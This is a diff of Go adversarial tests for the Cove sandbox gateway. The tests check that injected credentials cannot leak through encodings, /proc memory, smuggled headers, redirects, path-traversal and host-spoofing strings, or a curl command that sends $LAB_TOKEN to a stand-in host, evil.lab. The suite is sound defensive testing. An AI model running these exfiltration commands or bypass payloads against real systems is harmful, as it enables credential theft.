@@ -27,8 +27,7 @@ import (
 	"github.com/cove-sandbox/cove/test/adversary/outcome"
 )
 
-// Credentials describes those that the rows use. Their values are in the
-// environment of the gateway's process.
+// Credentials describes those that the rows use. Their values are in the environment of the gateway's process.
 const Credentials = `
 credentials:
   - name: key
@@ -63,19 +62,28 @@ credentials:
 // it is not meant for (S1 to S13, but for S11, which is said in the docs).
 func secretRows() []row {
 	return []row{
-		{id: "S1.inside", engine: true, invariant: "C1", what: "find the value in a sandbox: files, environment, arguments, memory", test: valueInside},
+		{id: "S1.inside", engine: true, invariant: "C1",
+			what: "find the value in a sandbox: files, environment, arguments, memory", test: valueInside},
 		{id: "S2.reflected", invariant: "C4", what: "have the origin send the value back, in any form", test: reflected},
-		{id: "S3.hops", invariant: "C2", what: "see by TRACE what the gateway adds, or send on what is meant for it", test: hops},
+		{id: "S3.hops", invariant: "C2",
+			what: "see by TRACE what the gateway adds, or send on what is meant for it", test: hops},
 		{id: "S4.copies", invariant: "C2", what: "send a copy, a part or a place of one's own for the value", test: copies},
-		{id: "S5.elsewhere", invariant: "C2", what: "have a redirect or a second address take the value elsewhere", test: elsewhere},
-		{id: "S6.spellings", invariant: "C2", what: "get the value onto another path or host by an odd spelling", test: oddSpellings},
-		{id: "S7.conflicts", invariant: "C3", what: "use two credentials of one place, or one without TLS, without interception, against policy", test: conflicts},
+		{id: "S5.elsewhere", invariant: "C2", what: "have a redirect or a second address take the value elsewhere",
+			test: elsewhere},
+		{id: "S6.spellings", invariant: "C2", what: "get the value onto another path or host by an odd spelling",
+			test: oddSpellings},
+		{id: "S7.conflicts", invariant: "C3",
+			what: "use two credentials of one place, or one without TLS, without interception, against policy", test: conflicts},
 		{id: "S8.fronted", invariant: "C2", what: "have the value sent to an address of the sandbox's choice", test: fronted},
-		{id: "S9.rotated", invariant: "C2", what: "have an old value used, or a mix, while it is changed and when it is gone", test: rotated},
+		{id: "S9.rotated", invariant: "C2", what: "have an old value used, or a mix, while it is changed and when it is gone",
+			test: rotated},
 		{id: "S12.presets", invariant: "C2", what: "list keys, files and batches with a preset's credential", test: presets},
 		{id: "S13.foreign", invariant: "C1", what: "use another sandbox's placeholder", test: foreignPlaceholder},
-		{id: "S10.commands", invariant: "C1", what: "have a command of Cove's, its log or the API's answers show the value", test: commands},
-		{id: "S10.written", invariant: "C1", what: "find a value in anything that was written: the log at its most talkative, decisions, answers, files", test: nothingWritten},
+		{id: "S10.commands", invariant: "C1", what: "have a command of Cove's, its log or the API's answers show the value",
+			test: commands},
+		{id: "S10.written", invariant: "C1",
+			what: "find a value in anything that was written: the log at its most talkative, decisions, answers, files",
+			test: nothingWritten},
 	}
 }
 
@@ -98,9 +106,11 @@ func spellings(value string) map[string]string {
 		wide.Write(binary.LittleEndian.AppendUint16(nil, u))
 	}
 	return map[string]string{
-		"raw": value, "hex": hex.EncodeToString([]byte(value)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(value))), "base64": base64.StdEncoding.EncodeToString([]byte(value)),
-		"base64 of a pair": base64.StdEncoding.EncodeToString([]byte("somebody:" + value)), "base64 for URLs": base64.RawURLEncoding.EncodeToString([]byte("x" + value)),
-		"percent": percent.String(), "query": url.QueryEscape(value), "UTF-16": wide.String(),
+		"raw": value, "hex": hex.EncodeToString([]byte(value)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(value))),
+		"base64":           base64.StdEncoding.EncodeToString([]byte(value)),
+		"base64 of a pair": base64.StdEncoding.EncodeToString([]byte("somebody:" + value)),
+		"base64 for URLs":  base64.RawURLEncoding.EncodeToString([]byte("x" + value)),
+		"percent":          percent.String(), "query": url.QueryEscape(value), "UTF-16": wide.String(),
 	}
 }
 
@@ -112,8 +122,7 @@ func inner(how, s string) string {
 	return s
 }
 
-// betrays names the spelling of a value that some text has, reversed too where
-// nothing is masked.
+// betrays names the spelling of a value that some text has, reversed too where nothing is masked.
 func betrays(text, value string) string {
 	for how, s := range spellings(value) {
 		if strings.Contains(text, inner(how, s)) {
@@ -144,7 +153,8 @@ func valueInside(c *trial) {
 			c.Errorf("not tested: the origin got %q", got)
 		}
 	}
-	if env := c.works(b.box, "env"); !slices.Contains(env.Lines, "LAB_TOKEN="+placeholder) || betrays(strings.Join(env.Lines, "\n"), value) != "" {
+	if env := c.works(b.box, "env"); !slices.Contains(env.Lines, "LAB_TOKEN="+placeholder) ||
+		betrays(strings.Join(env.Lines, "\n"), value) != "" {
 		c.Errorf("HOLE or not tested: the environment is %v", env.Lines)
 	}
 	held := c.occupy(b.box)
@@ -186,8 +196,7 @@ func coresOff(limits string) bool {
 	return false
 }
 
-// neighboursOf are the host's ids of all processes in a process's pid
-// namespace.
+// neighboursOf are the host's ids of all processes in a process's pid namespace.
 func neighboursOf(p hostProcess) (pids []int) {
 	dirs, _ := filepath.Glob("/proc/[0-9]*")
 	for _, dir := range dirs {
@@ -202,8 +211,7 @@ func neighboursOf(p hostProcess) (pids []int) {
 	return pids
 }
 
-// everythingOf is what the kernel shows of a process: environment, arguments
-// and all of its memory.
+// everythingOf is what the kernel shows of a process: environment, arguments and all of its memory.
 func everythingOf(pid int) string {
 	var all bytes.Buffer
 	dir := fmt.Sprintf("/proc/%d/", pid)
@@ -220,7 +228,8 @@ func everythingOf(pid int) string {
 	for line := range strings.Lines(string(maps)) {
 		var from, to int64
 		var mode string
-		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n == 3 && strings.HasPrefix(mode, "rw") && to-from < 128<<20 {
+		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n == 3 && strings.HasPrefix(mode, "rw") &&
+			to-from < 128<<20 {
 			io.Copy(&all, io.NewSectionReader(mem, from, to-from))
 		}
 	}
@@ -355,17 +364,20 @@ func reflected(c *trial) {
 		}
 	}
 	// And the same answers from where the value does not belong are as they are.
-	c.internet().Page("/free/echo", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "it is "+r.URL.RawQuery) })
+	c.internet().Page("/free/echo", func(w http.ResponseWriter,
+		r *http.Request) {
+		io.WriteString(w, "it is "+r.URL.RawQuery)
+	})
 	for _, e := range ways {
 		if a := b.get(e, "key.lab", "/free/echo?nothing"); !strings.Contains(a.text, "it is nothing") {
 			c.Errorf("not tested: %s: %s", e.name, a)
 		}
 	}
-	c.remark("not found are values that an origin reverses, encrypts or archives; a host that does so is no place for a credential")
+	c.remark("not found are values that an origin reverses, encrypts or archives; a host that does so is no place for a " +
+		"credential")
 }
 
-// hops: what is for the next hop goes no further, and nothing is added that
-// tells of the inside.
+// hops: what is for the next hop goes no further, and nothing is added that tells of the inside.
 func hops(c *trial) {
 	value := c.secret("COVE_ROWS_KEY")
 	b := c.outward(withKey, "key")
@@ -382,7 +394,8 @@ func hops(c *trial) {
 	b.quiet("key.lab")
 	for _, e := range everyEntry("key.lab") {
 		c.internet().Forget()
-		a := b.get(e, "key.lab", "/bound/x", "Proxy-Authorization: Basic c2VjcmV0", "Proxy-Connection: keep-alive", "Keep-Alive: 5", "TE: deflate", "Connection: X-One, close", "X-One: 1",
+		a := b.get(e, "key.lab", "/bound/x", "Proxy-Authorization: Basic c2VjcmV0", "Proxy-Connection: keep-alive",
+			"Keep-Alive: 5", "TE: deflate", "Connection: X-One, close", "X-One: 1",
 			"Http2-Settings: AAAA", "Upgrade: h2c", "X-Two: 2")
 		seen := c.internet().Requests()
 		if !a.ok() || len(seen) != 1 {
@@ -403,8 +416,10 @@ func copies(c *trial) {
 	placeholder := b.way.Env()["LAB_TOKEN"]
 	for _, e := range bound("key.lab") {
 		for _, header := range [][]string{
-			nil, {"Authorization: Bearer " + placeholder}, {"authorization: Bearer mine"}, {"AUTHORIZATION: mine", "Authorization: Bearer mine"}, {"Authorization: Bearer mine, Bearer " + placeholder},
-			{"Authorization:"}, {"Authorization: Basic bWluZTptaW5l"}, {"X-Api-Key: mine"}, {"X_Api_Key: mine", "Api-Key: mine"}, {"Proxy-Authorization: Bearer mine"}, {"Private-Token: mine"},
+			nil, {"Authorization: Bearer " + placeholder}, {"authorization: Bearer mine"},
+			{"AUTHORIZATION: mine", "Authorization: Bearer mine"}, {"Authorization: Bearer mine, Bearer " + placeholder},
+			{"Authorization:"}, {"Authorization: Basic bWluZTptaW5l"}, {"X-Api-Key: mine"}, {"X_Api_Key: mine", "Api-Key: mine"},
+			{"Proxy-Authorization: Bearer mine"}, {"Private-Token: mine"},
 			{"Connection: Authorization"}, {"Connection: close, authorization", "Authorization: Bearer mine"},
 		} {
 			c.internet().Forget()
@@ -415,12 +430,14 @@ func copies(c *trial) {
 				continue
 			}
 			all := fmt.Sprint(seen[0].Header, seen[0].Target)
-			if got := seen[0].Header["Authorization"]; !slices.Equal(got, []string{"Bearer " + value}) || strings.Contains(all, "mine") || strings.Contains(all, placeholder) {
+			if got := seen[0].Header["Authorization"]; !slices.Equal(got, []string{"Bearer " + value}) ||
+				strings.Contains(all, "mine") || strings.Contains(all, placeholder) {
 				c.Errorf("HOLE: %s, %v: the origin got %s", e.name, header, all)
 			}
 		}
 		c.internet().Forget()
-		b.say(e, e.request("POST", "key.lab", "/bound/x", "Transfer-Encoding: chunked", "Trailer: Authorization")+"1\r\na\r\n0\r\nAuthorization: Bearer mine\r\nX-Api-Key: mine\r\n\r\n")
+		b.say(e, e.request("POST", "key.lab", "/bound/x", "Transfer-Encoding: chunked",
+			"Trailer: Authorization")+"1\r\na\r\n0\r\nAuthorization: Bearer mine\r\nX-Api-Key: mine\r\n\r\n")
 		for _, r := range c.internet().Requests() {
 			if len(r.Trailer.Values("Authorization"))+len(r.Trailer.Values("X-Api-Key")) > 0 {
 				c.Errorf("HOLE: %s: trailers are %v", e.name, r.Trailer)
@@ -430,25 +447,31 @@ func copies(c *trial) {
 	// A placeholder is no key: wherever it is sent, it stays what it is.
 	for _, e := range everyEntry("allowed.lab") {
 		c.internet().Forget()
-		b.get(e, "allowed.lab", "/bound/"+placeholder+"?k="+placeholder, "Authorization: Bearer "+placeholder, "X-Other: "+placeholder)
+		b.get(e, "allowed.lab", "/bound/"+placeholder+"?k="+placeholder, "Authorization: Bearer "+placeholder,
+			"X-Other: "+placeholder)
 		seen := c.internet().Requests()
-		if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+placeholder || betrays(fmt.Sprint(seen[0]), value) != "" {
+		if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+placeholder ||
+			betrays(fmt.Sprint(seen[0]), value) != "" {
 			c.Errorf("HOLE or not tested: %s: another host got %v", e.name, seen)
 		}
 	}
-	for name, one := range map[string][2]string{"basic": {"basic.lab", "COVE_ROWS_BASIC"}, "header": {"header.lab", "COVE_ROWS_HEADER"}, "query": {"query.lab", "COVE_ROWS_QUERY"}} {
+	for name, one := range map[string][2]string{"basic": {"basic.lab", "COVE_ROWS_BASIC"},
+		"header": {"header.lab", "COVE_ROWS_HEADER"}, "query": {"query.lab", "COVE_ROWS_QUERY"}} {
 		v := c.secret(one[1])
 		own := c.outward(allow(one[0]), name)
-		want := map[string]string{"basic": "Basic " + base64.StdEncoding.EncodeToString([]byte("somebody:"+v)), "header": v, "query": "key=" + v}[name]
+		want := map[string]string{"basic": "Basic " + base64.StdEncoding.EncodeToString([]byte("somebody:"+v)), "header": v,
+			"query": "key=" + v}[name]
 		for _, e := range bound(one[0]) {
 			c.internet().Forget()
-			own.get(e, one[0], "/bound/x?key=mine&KEY=mine&key[]=mine", "Authorization: Bearer mine", "X-Lab-Key: mine", "x_lab_key: mine")
+			own.get(e, one[0], "/bound/x?key=mine&KEY=mine&key[]=mine", "Authorization: Bearer mine", "X-Lab-Key: mine",
+				"x_lab_key: mine")
 			seen := c.internet().Requests()
 			all := ""
 			for _, r := range seen {
 				all += fmt.Sprint(r.Target, " ", r.Header)
 			}
-			if len(seen) != 1 || strings.Count(all, want) != 1 || name == "basic" && len(seen[0].Header["Authorization"]) != 1 || name == "header" && strings.Contains(fmt.Sprint(seen[0].Header), "mine") ||
+			if len(seen) != 1 || strings.Count(all, want) != 1 || name == "basic" && len(seen[0].Header["Authorization"]) != 1 ||
+				name == "header" && strings.Contains(fmt.Sprint(seen[0].Header), "mine") ||
 				name == "query" && strings.Contains(seen[0].Target, "mine") {
 				c.Errorf("HOLE or not tested: %s by %s: the origin got %s", name, e.name, all)
 			}
@@ -464,7 +487,8 @@ func elsewhere(c *trial) {
 			w.Header().Set("Location", "https://"+r.URL.RawQuery)
 			w.WriteHeader(code)
 		})
-		for _, to := range []string{"allowed.lab/bound/x", "key.lab:8443/bound/x", "key.lab/free/x", "also.lab/bound/x", "evil.lab/bound/x"} {
+		for _, to := range []string{"allowed.lab/bound/x", "key.lab:8443/bound/x", "key.lab/free/x", "also.lab/bound/x",
+			"evil.lab/bound/x"} {
 			for _, e := range bound("key.lab") {
 				c.internet().Forget()
 				if a := b.get(e, "key.lab", "/bound/redirect?"+to); a.Count != int64(code) || len(c.internet().Requests()) != 1 {
@@ -479,7 +503,8 @@ func elsewhere(c *trial) {
 		scheme, host string
 		port         int
 		path         string
-	}{{"https", "allowed.lab", 443, "/bound/x"}, {"https", "key.lab", 8443, "/bound/x"}, {"https", "key.lab", 443, "/free/x"}, {"https", "also.lab", 443, "/bound/x"}, {"http", "key.lab", 80, "/bound/x"},
+	}{{"https", "allowed.lab", 443, "/bound/x"}, {"https", "key.lab", 8443, "/bound/x"},
+		{"https", "key.lab", 443, "/free/x"}, {"https", "also.lab", 443, "/bound/x"}, {"http", "key.lab", 80, "/bound/x"},
 		{"http", "key.lab", 443, "/bound/x"}, {"https", "evil.lab", 443, "/bound/x"}} {
 		for _, e := range entries(next.scheme, next.host, next.port) {
 			c.internet().Forget()
@@ -501,7 +526,8 @@ func elsewhere(c *trial) {
 		if a := b.get(e, "second.lab", "/bound/x"); !a.ok() {
 			c.Errorf("not tested: %s: %s", e.name, a)
 		}
-		if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+value || seen[0].Name != "second.lab" {
+		if seen := c.internet().Requests(); len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+value ||
+			seen[0].Name != "second.lab" {
 			c.Errorf("HOLE or not tested: %s: %v", e.name, seen)
 		}
 	}
@@ -512,14 +538,18 @@ func oddSpellings(c *trial) {
 	b := c.outward(withKey, "key")
 	given, withheld := 0, 0
 	for _, e := range bound("key.lab") {
-		for _, host := range []string{"key.lab", "KEY.lab", "key.lab.", "key.lab:443", "Key.Lab.:443", "user@key.lab", "key.lab:8443", "key.lab:0443", "key.lab@evil.lab", "xn--key.lab", "key。lab"} {
-			for _, path := range []string{"/bound/x", "/bound/../free/x", "/bound/%2e%2e/free/x", "/bound/..%2ffree/x", "/bound/%2e%2e%2ffree/x", "/bound/%252e%252e/free/x", "/free/../bound/x", "//bound/x", "/bound//x",
-				"/./bound/x", "/%62ound/x", "/bound/x;/../../free", "/bound\\..\\free", "/Bound/x", "/boundx", "/bound%2fx", "/bound/..;/free/x", "/bound/%5c../free", "/free/x", "/"} {
+		for _, host := range []string{"key.lab", "KEY.lab", "key.lab.", "key.lab:443", "Key.Lab.:443", "user@key.lab",
+			"key.lab:8443", "key.lab:0443", "key.lab@evil.lab", "xn--key.lab", "key。lab"} {
+			for _, path := range []string{"/bound/x", "/bound/../free/x", "/bound/%2e%2e/free/x", "/bound/..%2ffree/x",
+				"/bound/%2e%2e%2ffree/x", "/bound/%252e%252e/free/x", "/free/../bound/x", "//bound/x", "/bound//x",
+				"/./bound/x", "/%62ound/x", "/bound/x;/../../free", "/bound\\..\\free", "/Bound/x", "/boundx", "/bound%2fx",
+				"/bound/..;/free/x", "/bound/%5c../free", "/free/x", "/"} {
 				c.internet().Forget()
 				a := b.say(e, e.keep("GET", path, host, "Connection: close"))
 				for _, r := range c.internet().Requests() {
 					has := betrays(fmt.Sprint(r.Header, r.Target), value) != ""
-					meant := strings.HasPrefix(r.Target, "/bound/") && !strings.Contains(r.Target, "..") && !strings.Contains(strings.ToLower(r.Target), "%2e") && r.Host == "key.lab"
+					meant := strings.HasPrefix(r.Target, "/bound/") && !strings.Contains(r.Target, "..") &&
+						!strings.Contains(strings.ToLower(r.Target), "%2e") && r.Host == "key.lab"
 					if has && !meant {
 						c.Errorf("HOLE: %s: %s, %s: the value is on %s", e.name, host, path, r)
 					}
@@ -552,7 +582,8 @@ func conflicts(c *trial) {
 		c.Error("HOLE: a policy that passes TLS through is taken with a credential for it")
 		b.way.Close()
 	}
-	denied := c.outward("rules:\n  - hosts: [key.lab, allowed.lab]\n  - {hosts: key.lab, paths: /bound/**, action: deny}\n", "key")
+	denied := c.outward(
+		"rules:\n  - hosts: [key.lab, allowed.lab]\n  - {hosts: key.lab, paths: /bound/**, action: deny}\n", "key")
 	c.internet().Forget()
 	for _, e := range bound("key.lab") {
 		denied.stays("a host that policy denies by "+e.name, denied.get(e, "key.lab", "/bound/x"))
@@ -580,11 +611,14 @@ func conflicts(c *trial) {
 func fronted(c *trial) {
 	value := c.secret("COVE_ROWS_KEY")
 	b := c.outward(withKey, "key")
-	for _, at := range []string{lab.Evil4.String() + ":443", "[" + lab.Evil6.String() + "]:443", "10.9.9.9:443", "169.254.169.254:443", "203.0.113.5:443"} {
+	for _, at := range []string{lab.Evil4.String() + ":443", "[" + lab.Evil6.String() + "]:443", "10.9.9.9:443",
+		"169.254.169.254:443", "203.0.113.5:443"} {
 		c.internet().Forget()
-		a := b.talk(outcome.Talk{By: outcome.Direct, At: at, TLS: true, Name: "key.lab", Send: "GET /bound/x HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n"})
+		a := b.talk(outcome.Talk{By: outcome.Direct, At: at, TLS: true, Name: "key.lab",
+			Send: "GET /bound/x HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n"})
 		seen := c.internet().Requests()
-		if !a.ok() || len(seen) != 1 || seen[0].At.Addr() != lab.Web4 && seen[0].At.Addr() != lab.Web6 || seen[0].Header.Get("Authorization") != "Bearer "+value {
+		if !a.ok() || len(seen) != 1 || seen[0].At.Addr() != lab.Web4 && seen[0].At.Addr() != lab.Web6 ||
+			seen[0].Header.Get("Authorization") != "Bearer "+value {
 			c.Errorf("HOLE or not tested: key.lab at %s: %s, %v", at, a, seen)
 		}
 	}
@@ -609,7 +643,8 @@ func rotated(c *trial) {
 		<-release
 		io.WriteString(w, "you have "+r.Header.Get("Authorization")) // of which the gateway must still know
 	})
-	t := outcome.Talk{By: outcome.Direct, To: "key.lab:443", TLS: true, Name: "key.lab", Send: outcome.Quoted("GET /bound/wait HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n")}
+	t := outcome.Talk{By: outcome.Direct, To: "key.lab:443", TLS: true, Name: "key.lab",
+		Send: outcome.Quoted("GET /bound/wait HTTP/1.1\r\nHost: key.lab\r\nConnection: close\r\n\r\n")}
 	c.internet().Forget()
 	p := b.start(c, spec(fmt.Sprintf("crew %d %s", crew, strings.TrimPrefix(t.Line(), "talk "))))
 	if p == nil {
@@ -663,15 +698,21 @@ func presets(c *trial) {
 		meant                [2]string
 		closed               []string
 	}{
-		{"anthropic", "api.anthropic.com", "ANTHROPIC_API_KEY", [2]string{"POST", "/v1/messages"}, []string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "GET /v1/organizations/api_keys",
-			"POST /v1/organizations/invites", "GET /v1/organizations/me", "POST /v1/messages/batches", "GET /v1/messages/batches", "GET /v1/messages/batches/b/results", "POST /v1/skills", "DELETE /v1/models/m",
-			"POST /v1/environments", "GET /v1/messages", "POST /v1/complete"}},
-		{"openai", "api.openai.com", "OPENAI_API_KEY", [2]string{"POST", "/v1/responses"}, []string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "POST /v1/batches", "GET /v1/batches",
-			"GET /v1/organization/admin_api_keys", "POST /v1/organization/projects", "GET /v1/organization/usage/completions", "POST /v1/fine_tuning/jobs", "GET /v1/fine_tuning/jobs", "POST /v1/uploads",
-			"GET /v1/vector_stores", "POST /v1/assistants", "GET /v1/threads/t/messages", "POST /v1/evals", "DELETE /v1/models/m", "DELETE /v1/responses/r", "GET /v1/chat/completions", "POST /v1/realtime/client_secrets",
-			"POST /v1/containers", "GET /v1/webhooks"}},
-		{"openrouter", "openrouter.ai", "OPENROUTER_API_KEY", [2]string{"POST", "/api/v1/chat/completions"}, []string{"GET /api/v1/key", "GET /api/v1/keys", "POST /api/v1/keys", "GET /api/v1/credits",
-			"POST /api/v1/auth/keys", "GET /api/v1/generation", "GET /api/v1/activity"}},
+		{"anthropic", "api.anthropic.com", "ANTHROPIC_API_KEY", [2]string{"POST", "/v1/messages"},
+			[]string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "GET /v1/organizations/api_keys",
+				"POST /v1/organizations/invites", "GET /v1/organizations/me", "POST /v1/messages/batches",
+				"GET /v1/messages/batches", "GET /v1/messages/batches/b/results", "POST /v1/skills", "DELETE /v1/models/m",
+				"POST /v1/environments", "GET /v1/messages", "POST /v1/complete"}},
+		{"openai", "api.openai.com", "OPENAI_API_KEY", [2]string{"POST", "/v1/responses"},
+			[]string{"GET /v1/files", "POST /v1/files", "GET /v1/files/f/content", "POST /v1/batches", "GET /v1/batches",
+				"GET /v1/organization/admin_api_keys", "POST /v1/organization/projects", "GET /v1/organization/usage/completions",
+				"POST /v1/fine_tuning/jobs", "GET /v1/fine_tuning/jobs", "POST /v1/uploads",
+				"GET /v1/vector_stores", "POST /v1/assistants", "GET /v1/threads/t/messages", "POST /v1/evals",
+				"DELETE /v1/models/m", "DELETE /v1/responses/r", "GET /v1/chat/completions", "POST /v1/realtime/client_secrets",
+				"POST /v1/containers", "GET /v1/webhooks"}},
+		{"openrouter", "openrouter.ai", "OPENROUTER_API_KEY", [2]string{"POST", "/api/v1/chat/completions"},
+			[]string{"GET /api/v1/key", "GET /api/v1/keys", "POST /api/v1/keys", "GET /api/v1/credits",
+				"POST /api/v1/auth/keys", "GET /api/v1/generation", "GET /api/v1/activity"}},
 	} {
 		value := c.secret(one.variable)
 		c.internet().Lead(one.host)
@@ -690,7 +731,8 @@ func presets(c *trial) {
 				}
 			}
 			c.internet().Forget()
-			narrow.say(e, e.request(one.meant[0], one.host, one.meant[1], "Content-Length: 2", "Content-Type: application/json")+"{}")
+			narrow.say(e, e.request(one.meant[0], one.host, one.meant[1], "Content-Length: 2",
+				"Content-Type: application/json")+"{}")
 			if seen := c.internet().Requests(); len(seen) != 1 || betrays(fmt.Sprint(seen[0].Header), value) == "" {
 				c.Errorf("not tested: %s by %s: %v", one.name, e.name, seen)
 			}
@@ -709,7 +751,8 @@ func foreignPlaceholder(c *trial) {
 		c.internet().Forget()
 		other.get(e, "key.lab", "/bound/x", "Authorization: Bearer "+placeholder, "Proxy-Authorization: Bearer "+placeholder)
 		seen := c.internet().Requests()
-		if len(seen) != 1 || betrays(fmt.Sprint(seen[0].Header, seen[0].Target), value) != "" || seen[0].Header.Get("Authorization") != "Bearer "+placeholder {
+		if len(seen) != 1 || betrays(fmt.Sprint(seen[0].Header, seen[0].Target), value) != "" ||
+			seen[0].Header.Get("Authorization") != "Bearer "+placeholder {
 			c.Errorf("HOLE or not tested: %s: %v", e.name, seen)
 		}
 		c.internet().Forget()
@@ -724,8 +767,7 @@ func foreignPlaceholder(c *trial) {
 	}
 }
 
-// commands uses a credential as a user does, with a log at its most talkative,
-// and reads back whatever can be read.
+// commands uses a credential as a user does, with a log at its most talkative, and reads back whatever can be read.
 func commands(c *trial) {
 	value := "key-" + token()
 	c.suite.secrets = append(c.suite.secrets, value)
@@ -742,7 +784,8 @@ func commands(c *trial) {
 	}
 	c.internet().Forget()
 	for _, flags := range [][]string{nil, {"--json"}} {
-		cove(append([]string{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "-c", `curl -s -i --max-time 30 https://key.lab.test/mirror
+		cove(append([]string{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "-c",
+			`curl -s -i --max-time 30 https://key.lab.test/mirror
 curl -s -i --max-time 30 http://key.lab.test/mirror; curl -s -i --max-time 30 https://evil.lab/$LAB_TOKEN; curl -s -i -X TRACE --max-time 30 https://key.lab.test/mirror; env; echo "$LAB_TOKEN" >&2; false`}, flags...)...)
 	}
 	got := 0
@@ -754,8 +797,10 @@ curl -s -i --max-time 30 http://key.lab.test/mirror; curl -s -i --max-time 30 ht
 	if got != 2 {
 		c.Errorf("not tested: the value arrived %d times", got)
 	}
-	for _, args := range [][]string{{"audit", "--json"}, {"ps", "--all", "--json"}, {"network", "log", "--json"}, {"config", "show"}, {"policy", "presets"}, {"ca", "list"},
-		{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "--set", "gateway.credentials=" + os.DevNull, "-c", "true"}} {
+	for _, args := range [][]string{{"audit", "--json"}, {"ps", "--all", "--json"}, {"network", "log", "--json"},
+		{"config", "show"}, {"policy", "presets"}, {"ca", "list"},
+		{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "--set", "gateway.credentials=" + os.DevNull,
+			"-c", "true"}} {
 		cove(args...)
 	}
 	if said < 5000 {
@@ -763,8 +808,7 @@ curl -s -i --max-time 30 http://key.lab.test/mirror; curl -s -i --max-time 30 ht
 	}
 }
 
-// nothingWritten searches what has been written in the course of all rows. It
-// is the last.
+// nothingWritten searches what has been written in the course of all rows. It is the last.
 func nothingWritten(c *trial) {
 	if len(c.suite.secrets) == 0 {
 		c.lacking("no other row of S has run: there is no value to look for")
@@ -796,5 +840,6 @@ func nothingWritten(c *trial) {
 	if files == 0 {
 		c.Error("not tested: there are no files")
 	}
-	c.remark("%d values, %d files, %d bytes of log, %d of decisions", len(c.suite.secrets), files, len(log), len(decisions))
+	c.remark("%d values, %d files, %d bytes of log, %d of decisions", len(c.suite.secrets), files, len(log),
+		len(decisions))
 }
